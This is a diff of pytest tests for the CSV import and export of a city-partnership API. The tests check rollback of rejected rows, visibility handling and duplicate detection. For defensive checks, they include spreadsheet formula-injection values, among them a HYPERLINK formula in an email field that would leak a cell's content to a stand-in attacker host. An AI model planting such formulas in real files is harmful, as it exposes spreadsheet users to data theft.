@@ -148,11 +148,12 @@ def test_a_rejected_row_leaves_nothing_behind_and_rows_take_their_visibility(
 ) -> None:
     editor = keys["editor"]
     text = (
-        "partner_city;partner_country;kind;established_on;visibility;notes\n"
-        "Vilnius;Litauen;friendship;2019-05-01;public;\n"
-        "Tartu;Estland;no-such-kind;;public;\n"  # rejected after its city was looked for
-        "Geheimstadt;LT;contact;;internal;nur intern\n"
-        "'=Formel;LT;contact;;public;\n"
+        "partner_city;partner_country;kind;established_on;ended_on;visibility;notes;\n"
+        "Vilnius;Litauen;friendship;2019-05-01;;public;;\n"
+        # Refused by the partnership's own rules after its new city was made.
+        "Tartu;Estland;friendship;2020-01-01;2019-01-01;public;;\n"
+        "Geheimstadt;LT;contact;;;internal;nur intern;\n"
+        "'=Formel;LT;contact;;;public;;\n"
     )
     app_client.post(
         "/v1/cities", json={"name": "Köln", "country_code": "DE"}, headers=editor
@@ -164,9 +165,10 @@ def test_a_rejected_row_leaves_nothing_behind_and_rows_take_their_visibility(
         "created",
         "created",
     ]
-    assert "kind" in report["results"][1]["reason"]
+    assert "ended_on: must not be before established_on" in report["results"][1]["reason"]
     cities = {c["name"]: c for c in every(app_client, "/v1/cities", editor)}
-    assert "Tartu" not in cities, "the rejected row's city was undone with it"
+    assert "Tartu" not in cities, "the rejected row's new city was undone with it"
+    assert report["cities_created"] == 3
     assert cities["Geheimstadt"]["visibility"] == "internal", "a city takes its row's visibility"
     assert "=Formel" in cities, "the guard quote is taken off"
     public = {c["name"] for c in every(app_client, "/v1/cities", {})}
@@ -206,7 +208,7 @@ def test_exports_import_again_and_show_what_the_caller_may_see(
         name='=HYPERLINK("http://x")',
         kind="association",
         city_id=home["id"],
-        email="info@example.org",
+        email='=HYPERLINK("http://e.vil/?"&A2,"x")&"@e.co"',
     )
     post(
         "/v1/events",
@@ -238,6 +240,10 @@ def test_exports_import_again_and_show_what_the_caller_may_see(
     organisations = list(csv.DictReader(io.StringIO(app_client.get("/v1/organisations.csv").text)))
     assert organisations[0]["name"] == '\'=HYPERLINK("http://x")', "no formula for Excel"
     assert "email" not in organisations[0]
+    staff = list(
+        csv.DictReader(io.StringIO(app_client.get("/v1/organisations.csv", headers=editor).text))
+    )
+    assert staff[0]["email"].startswith("'="), "no formula in any text cell"
     partnerships = list(csv.DictReader(io.StringIO(app_client.get("/v1/partnerships.csv").text)))
     assert [(p["partner_city"], p["sdgs"], p["description_en"]) for p in partnerships] == [
         ("京都市", "11;17", "Twinning")
@@ -285,3 +291,45 @@ def test_refusals(app_client: TestClient, keys: dict[str, dict[str, str]]) -> No
     assert latin1.status_code == 422
     assert "UTF-8" in latin1.json()["detail"]
     assert app_client.get("/v1/cities", headers=editor).json()["items"] == []
+
+
+def test_records_the_caller_may_not_see_are_neither_duplicates_nor_in_the_way(
+    app_client: TestClient, keys: dict[str, dict[str, str]]
+) -> None:
+    admin, editor = keys["admin"], keys["editor"]  # only the admin may see confidential ones
+
+    def post(path: str, **body: Any) -> dict[str, Any]:
+        response = app_client.post(path, json=body, headers=admin)
+        assert response.status_code == 201, response.text
+        return response.json()
+
+    secret = post("/v1/cities", name="Kyoto", country_code="JP", visibility="confidential")
+    post(
+        "/v1/events",
+        title={"de": "Empfang"},
+        kind="reception",
+        starts_at="2025-12-05T18:00:00+01:00",
+        venue={"name": "Residenz", "city_id": secret["id"]},
+    )
+    cities = "name,country_code\nKyoto,JP\n"
+    first = import_csv(app_client, "cities", cities, editor)
+    assert first["results"][0]["outcome"] == "created", "the hidden Kyoto is no duplicate"
+    again = import_csv(app_client, "cities", cities, editor)
+    assert again["results"][0]["outcome"] == "duplicate", "nor does it hide the visible one"
+    assert again["results"][0]["id"] == first["results"][0]["id"] != secret["id"]
+    events = "title_de,kind,starts_at\nEmpfang,reception,2025-12-05T18:00:00+01:00\n"
+    dry = import_csv(app_client, "events", events, editor, dry_run="true")
+    assert dry["results"][0]["outcome"] == "created", "an event at a hidden city is not found"
+
+
+def test_files_that_cannot_be_read_store_nothing(
+    app_client: TestClient, keys: dict[str, dict[str, str]]
+) -> None:
+    editor = {**keys["editor"], **CSV}
+    huge = "name,country_code\nTurku,FI\n" + '"' + "x" * 200_000 + '",FI\n'
+    response = app_client.post("/v1/imports/cities", content=huge, headers=editor)
+    assert response.status_code == 422
+    assert response.json()["errors"][0]["field"] == "line.3"
+    assert app_client.get("/v1/cities", headers=editor).json()["items"] == []
+    trailing = import_csv(app_client, "cities", "name,country_code,\nTurku,FI,\n", editor)
+    assert trailing["created"] == 1, "an empty last header cell (a trailing comma) is no column"
